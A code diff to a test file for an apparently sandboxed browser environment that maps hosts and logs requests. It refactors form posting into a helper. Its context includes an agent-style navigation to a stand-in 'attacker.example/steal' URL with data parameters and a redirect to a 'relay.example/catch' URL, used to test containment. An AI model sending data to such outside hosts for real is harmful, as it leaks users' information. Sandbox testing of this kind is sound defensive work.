@@ -5,6 +5,7 @@
  * answered with a plain page, without an error and without reaching the network.
  */
 import { describe, expect, it } from "vitest";
+import type { Page } from "../../src/browser/index.js";
 import { forumScenario } from "../workspace/forum-fixture.js";
 import { openEpisode, refOf, scenarioOf, useBrowserAndWorkspace } from "./browser-fixture.js";
 
@@ -14,6 +15,30 @@ const { browser, workspace } = useBrowserAndWorkspace();
 async function openMapped() {
   const id = `mapped-${Math.random().toString(36).slice(2, 10)}`;
   return openEpisode(browser(), workspace(), forum, { hostMapping: workspace().hostMapping(id), episodeId: id });
+}
+
+/**
+ * Posts a form with one field, `note`, from the page, as a page's own script would. The navigation
+ * may start before the evaluation returns and take its context along; that is the post happening.
+ */
+async function postForm(page: Page, action: string, note: string): Promise<void> {
+  const posted = page.evaluate(
+    ({ action, note }) => {
+      const form = document.createElement("form");
+      form.method = "post";
+      form.action = action;
+      const field = document.createElement("input");
+      field.name = "note";
+      field.value = note;
+      form.append(field);
+      document.body.append(form);
+      form.submit();
+    },
+    { action, note },
+  );
+  await posted.catch((error: Error) => {
+    if (!/Execution context was destroyed|navigat/i.test(error.message)) throw error;
+  });
 }
 
 describe("the host mapping", { timeout: 90_000 }, () => {
@@ -74,17 +99,7 @@ describe("the host mapping", { timeout: 90_000 }, () => {
             document.body.append(image);
           }),
       );
-      await page.evaluate(() => {
-        const form = document.createElement("form");
-        form.method = "post";
-        form.action = "http://forms.example/submit";
-        const field = document.createElement("input");
-        field.name = "note";
-        field.value = "Your tip saved my data.";
-        form.append(field);
-        document.body.append(form);
-        form.submit();
-      });
+      await postForm(page, "http://forms.example/submit", "Your tip saved my data.");
       await page.waitForURL("http://forms.example/submit");
       const goto = await session.act({ action: "goto", url: "http://attacker.example/steal?d=1&d=2" });
       expect(goto.error).toBeNull();
@@ -136,17 +151,7 @@ describe("the host mapping", { timeout: 90_000 }, () => {
       await page.route("**/forum/hop", (route) =>
         route.fulfill({ status: 307, headers: { location: "http://relay.example/catch?via=forum" } }),
       );
-      await page.evaluate(() => {
-        const form = document.createElement("form");
-        form.method = "post";
-        form.action = "/e/x/forum/hop".replace("/e/x/", location.pathname.slice(0, location.pathname.indexOf("/forum") + 1));
-        const field = document.createElement("input");
-        field.name = "note";
-        field.value = "backup-plan";
-        form.append(field);
-        document.body.append(form);
-        form.submit();
-      });
+      await postForm(page, `/e/${id}/forum/hop`, "backup-plan");
       await page.waitForURL("http://relay.example/catch?via=forum");
       expect(await page.textContent("body")).toContain("Your request was received.");
       const sink = workspace().sinkLog(id);
